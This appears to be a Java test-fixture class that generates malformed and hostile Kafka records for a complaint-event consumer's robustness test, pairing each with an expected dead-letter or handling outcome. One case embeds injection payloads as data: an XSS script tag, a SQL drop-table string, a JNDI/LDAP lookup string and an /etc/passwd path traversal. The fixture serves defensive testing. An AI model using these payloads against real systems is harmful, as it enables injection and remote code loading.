package io.closedloop.contract.event;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.closedloop.contract.json.ContractJson;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

import java.io.ByteArrayOutputStream;
import java.math.BigInteger;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.function.Consumer;
import java.util.function.Supplier;

/**
 * Records a careless or malicious producer might put on {@code complaint.events.v1}, for the consumers'
 * HostileInputIT: bytes that are not JSON or not UTF-8, JSON null, empty values and tombstones, JSON nested 10,000
 * deep, strings close to the producer's 1 MiB, envelopes with a missing or unknown type, fields of the wrong kind,
 * numbers out of range, records without key or under another complaint's key, and valid envelopes with one field
 * replaced by anything jqwik makes (sampled outside the jqwik engine, so every run tries other values).
 * <p>
 * Each names what a consumer must do with it: {@link Expected#DEAD_LETTER} (not a complaint event the contract's
 * reader accepts: the reader says why), or {@link Expected#HANDLED_OR_DEAD_LETTER} for a valid-looking event whose
 * values a service may or may not be able to keep (a NUL character, a time PostgreSQL cannot hold, 900 KB of text):
 * either is right, being stuck on it or losing what follows is not.
 */
public final class HostileEventRecords {

    /** What a consuming service must do with a hostile record. */
    public enum Expected {
        /** sent to the service's dead-letter topic with the reason */
        DEAD_LETTER,
        /** handled like any event, or dead-lettered with the reason; never retried for ever */
        HANDLED_OR_DEAD_LETTER
    }

    /**
     * @param kind     what is hostile about it, for the failure message
     * @param key      the record's key ({@code null}: none)
     * @param value    the record's value ({@code null}: a tombstone)
     * @param expected what the consumer must do with it
     * @param eventId  the event id a consumer records if it handles it, for {@link Expected#HANDLED_OR_DEAD_LETTER}
     */
    public record HostileRecord(String kind, String key, byte[] value, Expected expected, String eventId) {
        @Override
        public String toString() {
            String text = value == null ? "null" : new String(value, StandardCharsets.UTF_8);
            return kind + " (key " + key + ", " + (value == null ? "tombstone" : value.length + " bytes: "
                    + (text.length() > 160 ? text.substring(0, 160) + "…" : text)) + ")";
        }
    }

    /** Leaves room for the dead-letter headers (reason, stack trace) under the producers' 1 MiB max.request.size. */
    private static final int HUGE_CHARACTERS = 300_000;
    private static final int NESTING = 10_000;

    private HostileEventRecords() {
    }

    /**
     * One of every kind, and {@code randomSamples} jqwik samples of each random kind.
     *
     * @param complaintIds new complaint ids, one per record (a dead-lettered record parks its key's complaint in some
     *                     services, so no two records share one); a test may choose ids that land on one partition
     */
    public static List<HostileRecord> sample(Supplier<String> complaintIds, Instant receivedAt, int randomSamples) {
        List<HostileRecord> records = new ArrayList<>();
        Supplier<ValidEnvelope> valid = () -> new ValidEnvelope(complaintIds.get(), receivedAt);

        Iterator<byte[]> randomBytes = Arbitraries.bytes().array(byte[].class).ofMinSize(1).ofMaxSize(300)
                .sampleStream().iterator();
        Iterator<Object> randomJson = jsonTrees().sampleStream().iterator();
        for (int i = 0; i < randomSamples; i++) {
            records.add(dead("random bytes", complaintIds.get(), randomBytes.next()));
            records.add(dead("random JSON", complaintIds.get(), bytes(randomJson.next())));
        }

        records.add(dead("text that is not JSON", complaintIds.get(), utf8("{ this is not a complaint event")));
        records.add(dead("JSON null", complaintIds.get(), utf8("null")));
        records.add(dead("an empty value", complaintIds.get(), new byte[0]));
        records.add(dead("a tombstone", complaintIds.get(), null));
        records.add(dead("two JSON values", complaintIds.get(), utf8("{}{}")));
        records.add(dead("a JSON array", complaintIds.get(), utf8("[]")));

        ValidEnvelope notUtf8 = valid.get();
        records.add(dead("invalid UTF-8 in a string", notUtf8.complaintId,
                splice(notUtf8.bytes(), "\"subject\":\"", new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE})));
        ValidEnvelope gbk = valid.get();
        records.add(dead("GBK bytes sent as UTF-8", gbk.complaintId,
                new String(gbk.bytes(), StandardCharsets.UTF_8).getBytes(Charset.forName("GBK"))));

        ValidEnvelope nestedArrays = valid.get();
        records.add(dead("arrays nested " + NESTING + " deep", nestedArrays.complaintId,
                splice(nestedArrays.bytes(), "{", utf8("\"x\":" + "[".repeat(NESTING) + "]".repeat(NESTING) + ","))));
        ValidEnvelope nestedObjects = valid.get();
        records.add(dead("objects nested " + NESTING + " deep in the payload", nestedObjects.complaintId,
                splice(nestedObjects.bytes(), "\"payload\":{",
                        utf8("\"x\":" + "{\"a\":".repeat(NESTING) + "1" + "}".repeat(NESTING) + ","))));

        records.add(valid.get().change("an event id of " + HUGE_CHARACTERS + " characters", Expected.DEAD_LETTER,
                e -> e.put("eventId", "e".repeat(HUGE_CHARACTERS))));
        records.add(valid.get().change("a type of 10,000 characters", Expected.DEAD_LETTER,
                e -> e.put("type", "T".repeat(10_000))));
        records.add(valid.get().change("a complaint text of " + HUGE_CHARACTERS + " Chinese characters",
                Expected.HANDLED_OR_DEAD_LETTER, e -> payload(e).put("text", "长".repeat(HUGE_CHARACTERS))));
        records.add(valid.get().change("a subject of " + HUGE_CHARACTERS + " characters",
                Expected.HANDLED_OR_DEAD_LETTER, e -> payload(e).put("subject", "s".repeat(HUGE_CHARACTERS))));

        records.add(valid.get().change("no type", Expected.DEAD_LETTER, e -> e.remove("type")));
        records.add(valid.get().change("a type that is a number", Expected.DEAD_LETTER, e -> e.put("type", 42)));
        records.add(valid.get().change("a type that is an object", Expected.DEAD_LETTER,
                e -> e.putObject("type").put("name", "ComplaintReceived")));
        // the contract's reader refuses a type it does not know rather than guessing (ComplaintEventEnvelope.Reader):
        // intake writes only registered types, so an unknown one is a producer's mistake an operator must see
        records.add(valid.get().change("an unknown event type", Expected.DEAD_LETTER,
                e -> e.put("type", "ComplaintTeleported")));
        records.add(valid.get().change("no payload", Expected.DEAD_LETTER, e -> e.remove("payload")));
        records.add(valid.get().change("a payload that is an array", Expected.DEAD_LETTER,
                e -> e.putArray("payload").add(1)));
        records.add(valid.get().change("no event id", Expected.DEAD_LETTER, e -> e.remove("eventId")));
        records.add(valid.get().change("a blank complaint id", Expected.DEAD_LETTER, e -> e.put("complaintId", " ")));

        records.add(valid.get().change("a sequence that is text", Expected.DEAD_LETTER, e -> e.put("sequence", "abc")));
        records.add(valid.get().change("a negative sequence", Expected.DEAD_LETTER, e -> e.put("sequence", -1)));
        records.add(valid.get().change("a sequence of 2^64", Expected.DEAD_LETTER,
                e -> e.put("sequence", BigInteger.TWO.pow(64))));
        records.add(valid.get().change("a sequence of 1.5", Expected.DEAD_LETTER,
                e -> e.put("sequence", new java.math.BigDecimal("1.5"))));
        records.add(valid.get().change("a sequence of 1e400", Expected.DEAD_LETTER,
                e -> e.set("sequence", tree("1e400"))));
        records.add(valid.get().change("a received time that is a boolean", Expected.DEAD_LETTER,
                e -> payload(e).put("receivedAt", true)));
        records.add(valid.get().change("a received time in month 13", Expected.DEAD_LETTER,
                e -> payload(e).put("receivedAt", "2026-13-45T99:99:99Z")));
        records.add(valid.get().change("a channel that is a number", Expected.DEAD_LETTER,
                e -> payload(e).put("channel", 12345)));
        records.add(valid.get().change("an unknown channel", Expected.DEAD_LETTER,
                e -> payload(e).put("channel", "CARRIER_PIGEON")));
        records.add(valid.get().change("a complainant that is a string", Expected.DEAD_LETTER,
                e -> payload(e).put("complainant", "Li Wei")));
        records.add(valid.get().change("attachments that are an object", Expected.DEAD_LETTER,
                e -> payload(e).putObject("attachments").put("uri", "x")));
        records.add(valid.get().change("a latitude of 1e400", Expected.HANDLED_OR_DEAD_LETTER,
                e -> payload(e).putObject("location").set("lat", tree("1e400"))));
        // a consumer dates what it records by occurredAt: without it routing retried the record for ever
        records.add(valid.get().change("no occurredAt", Expected.DEAD_LETTER, e -> e.remove("occurredAt")));
        records.add(valid.get().change("occurredAt null", Expected.DEAD_LETTER, e -> e.putNull("occurredAt")));
        records.add(valid.get().change("times in the year 999,999,999", Expected.HANDLED_OR_DEAD_LETTER, e -> {
            e.put("occurredAt", "+999999999-12-31T23:59:59Z");
            payload(e).put("receivedAt", "+999999999-12-31T23:59:59Z");
        }));
        records.add(valid.get().change("times before the year 0", Expected.HANDLED_OR_DEAD_LETTER, e -> {
            e.put("occurredAt", "-999999999-01-01T00:00:00Z");
            payload(e).put("receivedAt", "-999999999-01-01T00:00:00Z");
        }));
        records.add(valid.get().change("NUL characters in the text", Expected.HANDLED_OR_DEAD_LETTER,
                e -> payload(e).put("subject", "late\u0000parcel").put("text", "\u0000\u0000\u0000")));
        records.add(valid.get().change("control characters and markup in the text", Expected.HANDLED_OR_DEAD_LETTER,
                e -> payload(e).put("subject", "<script>alert(1)</script>\u0007\u001b[31m")
                        .put("text", "'; drop table processed_event; -- ${jndi:ldap://x/a} ../../etc/passwd")));
        // Jackson will not write half a character, so its escape is put into the JSON text
        ValidEnvelope surrogate = valid.get();
        records.add(new HostileRecord("a lone surrogate in the text", surrogate.complaintId,
                splice(surrogate.bytes(), "\"text\":\"", utf8("\\ud800 half a character ")),
                Expected.HANDLED_OR_DEAD_LETTER, surrogate.envelope.eventId()));

        ValidEnvelope noKey = valid.get();
        records.add(new HostileRecord("no key", null, noKey.bytes(), Expected.DEAD_LETTER, null));
        ValidEnvelope otherKey = valid.get();
        records.add(new HostileRecord("another complaint's key", complaintIds.get(), otherKey.bytes(),
                Expected.DEAD_LETTER, null));
        records.add(valid.get().change("a payload of another complaint", Expected.DEAD_LETTER,
                e -> payload(e).put("complaintId", "C-someone-else")));

        Iterator<Object> replacements = jsonTrees().sampleStream().iterator();
        Iterator<String> fields = Arbitraries.of("eventId", "type", "revision", "complaintId", "sequence",
                "occurredAt", "correlationId", "causationId", "payload", "payload.channel", "payload.channelMessageId",
                "payload.receivedAt", "payload.complainant", "payload.subject", "payload.text", "payload.infoType",
                "payload.location", "payload.attachments", "payload.actor", "payload.channelContext")
                .sampleStream().iterator();
        for (int i = 0; i < randomSamples; i++) {
            String field = fields.next();
            JsonNode replacement = ContractJson.mapper().valueToTree(replacements.next());
            records.add(valid.get().change(field + " replaced by " + replacement, Expected.HANDLED_OR_DEAD_LETTER,
                    e -> {
                        if (field.startsWith("payload.")) {
                            payload(e).set(field.substring("payload.".length()), replacement);
                        } else {
                            e.set(field, replacement);
                        }
                    }));
        }
        return records;
    }

    /** Any JSON: objects, arrays, strings with control characters and any script, numbers of any size. */
    private static Arbitrary<Object> jsonTrees() {
        Arbitrary<Object> leaves = Arbitraries.oneOf(
                // through UTF-8 and back: a lone surrogate jqwik may make cannot be written as JSON (tried above)
                Arbitraries.strings().all().ofMaxLength(40)
                        .map(text -> (Object) new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8)),
                Arbitraries.bigIntegers().between(BigInteger.TEN.pow(40).negate(), BigInteger.TEN.pow(40))
                        .map(Object.class::cast),
                Arbitraries.doubles().map(Object.class::cast),
                Arbitraries.of(true, false).map(Object.class::cast),
                Arbitraries.just(null));
        Arbitrary<String> names = Arbitraries.oneOf(Arbitraries.of("eventId", "type", "complaintId", "sequence",
                "payload", "channel", "receivedAt", "text", "ComplaintReceived"),
                Arbitraries.strings().all().ofMaxLength(20)
                        .map(text -> new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8)));
        return Arbitraries.recursive(() -> leaves, inner -> Arbitraries.oneOf(
                inner.list().ofMaxSize(4).map(Object.class::cast),
                Arbitraries.maps(names, inner).ofMaxSize(5).map(Object.class::cast)), 0, 4);
    }

    /** A valid ComplaintReceived of a new complaint, keyed by it, to spoil. */
    private static final class ValidEnvelope {
        private final String complaintId;
        private final ComplaintEventEnvelope envelope;

        ValidEnvelope(String complaintId, Instant receivedAt) {
            this.complaintId = complaintId;
            this.envelope = ComplaintEventFixtures.complaintReceived(complaintId, receivedAt);
        }

        byte[] bytes() {
            return ComplaintEventFixtures.json(envelope);
        }

        HostileRecord change(String kind, Expected expected, Consumer<ObjectNode> change) {
            ObjectNode json = ContractJson.mapper().valueToTree(envelope);
            change.accept(json);
            // the id a consumer records is what the contract's reader reads from the changed envelope: the field's
            // text, whatever JSON it holds (eventId replaced by true is handled as event "true")
            JsonNode eventId = json.get("eventId");
            return new HostileRecord(kind, complaintId, HostileEventRecords.bytes(json), expected,
                    eventId == null || eventId.isNull() ? null : eventId.asText());
        }
    }

    private static HostileRecord dead(String kind, String key, byte[] value) {
        return new HostileRecord(kind, key, value, Expected.DEAD_LETTER, null);
    }

    private static ObjectNode payload(ObjectNode envelope) {
        return (ObjectNode) envelope.get("payload");
    }

    private static JsonNode tree(String json) {
        try {
            return ContractJson.mapper().readTree(json);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    /** {@code insert} spliced into {@code value} right after the first {@code after}. */
    private static byte[] splice(byte[] value, String after, byte[] insert) {
        String text = new String(value, StandardCharsets.ISO_8859_1);
        int at = text.indexOf(after);
        if (at < 0) {
            throw new IllegalArgumentException("no " + after + " in " + new String(value, StandardCharsets.UTF_8));
        }
        int cut = at + after.length();
        var out = new ByteArrayOutputStream();
        out.write(value, 0, cut);
        out.writeBytes(insert);
        out.write(value, cut, value.length - cut);
        return out.toByteArray();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] bytes(Object tree) {
        try {
            return ContractJson.mapper().writeValueAsBytes(tree == null ? JsonNodeFactory.instance.nullNode() : tree);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
